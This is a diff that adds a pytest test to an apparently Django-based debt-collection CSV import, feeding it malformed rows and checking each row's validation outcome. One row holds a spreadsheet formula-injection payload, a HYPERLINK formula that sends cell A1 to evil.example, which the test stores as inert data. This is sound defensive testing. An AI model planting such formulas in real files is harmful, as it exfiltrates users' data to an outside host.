@@ -6,6 +6,7 @@ refused with its row, the creditor's column, the value and the code, also in the
 
 from __future__ import annotations
 
+import codecs
 import csv
 import io
 from datetime import date, timedelta
@@ -139,3 +140,56 @@ def test_the_api_path_checks_and_normalises_identifiers(world, place) -> None:
     with pytest.raises(ValidationError) as refused:
         place("API-5", iban="FR7630006000011234567890188")
     assert [e["code"] for e in refused.value.fields["errors"]] == ["iban.checksum"]
+
+
+# --- the issue's ugly-file list, through the whole import: each row's exact outcome ----------------------
+
+UGLY_HEADER = "Référence;Date de facture;Montant;Nom;E-mail;Code postal;Libellé"
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
+HUGE = "x" * 10_000_000
+
+
+def ugly_file() -> bytes:
+    def line(*cells: str) -> str:
+        return ";".join(f'"{c.replace(chr(34), chr(34) * 2)}"' if any(x in c for x in ';"\n') else c for c in cells)
+
+    rows = [
+        UGLY_HEADER,
+        line("U-1", INVOICED, "120,50", "Martin", "m@example.fr", "33000", "ok"),  # 2 placed
+        line("U-1", INVOICED, "80,00", "Martin", "m@example.fr", "33000", "same ref"),  # 3 duplicate
+        line("U-3", INVOICED, "0", "Durand", "d3@example.fr", "33000", "zero"),  # 4
+        line("U-4", INVOICED, "-12,50", "Durand", "d4@example.fr", "33000", "negative"),  # 5
+        line("U-5", INVOICED, "12,345", "Durand", "d5@example.fr", "33000", "three decimals"),  # 6
+        line("U-6", "31/02/2026", "12,00", "Durand", "d6@example.fr", "33000", "impossible date"),  # 7
+        line("U-7", INVOICED, "douze euros", "Durand", "d7@example.fr", "33000", "text amount"),  # 8
+        line("U-8", INVOICED, "15,00", FORMULA, "d8@example.fr", "33000", "formula"),  # 9 placed, kept verbatim
+        line("U-9", INVOICED, "15,00", "Durand", "d9@example.fr", "33000", HUGE),  # 10 a 10 MB field
+        line("U-10", INVOICED, "1 000,00", "Lefèvre", "l@example.fr", "75002", "a line\nbreak"),  # 11 placed
+    ]
+    return codecs.BOM_UTF8 + "\r\n".join(rows).encode("utf-8") + b"\r\n"
+
+
+def test_the_ugly_rows_of_the_issue_each_get_their_stated_outcome(world, settings, tmp_path: Path) -> None:
+    settings.MEDIA_ROOT = tmp_path / "media"
+    batch = import_create(creditor=world.creditor, content=io.BytesIO(ugly_file()), filename="ugly.csv", actor=ACTOR)
+    import_run(batch=batch, actor=ACTOR)
+    batch.refresh_from_db()
+    assert batch.status == ImportBatch.Status.DONE, batch.message
+    issues = [(r, c, v[:20], code) for r, c, v, code in batch.issues.values_list("row", "column", "value", "code")]
+    assert issues == [
+        (3, "Référence", "U-1", "ref.duplicate_in_file"),
+        (4, "Montant", "0", "amount.not_positive"),
+        (5, "Montant", "-12,50", "amount.not_positive"),
+        (6, "Montant", "12,345", "amount.too_many_decimals"),
+        (7, "Date de facture", "31/02/2026", "date.impossible"),
+        (8, "Montant", "douze euros", "amount.not_a_number"),
+        (10, "Libellé", "x" * 20, "field.too_long"),
+    ]
+    assert len(batch.issues.get(row=10).value) <= 201  # the report carries a clipped value, not 10 MB
+    placed = dict(Claim.objects.values_list("external_ref", "original_amount_minor"))
+    assert placed == {"U-1": 12050, "U-8": 1500, "U-10": 100000}
+    assert Claim.objects.get(external_ref="U-8").debtor.last_name == FORMULA  # data, never evaluated
+    assert Claim.objects.get(external_ref="U-10").description == "a line\nbreak"
+    out = io.StringIO()
+    import_error_report(batch=batch, out=out)
+    assert len(out.getvalue()) < 10_000  # the 10 MB value is not copied into the report
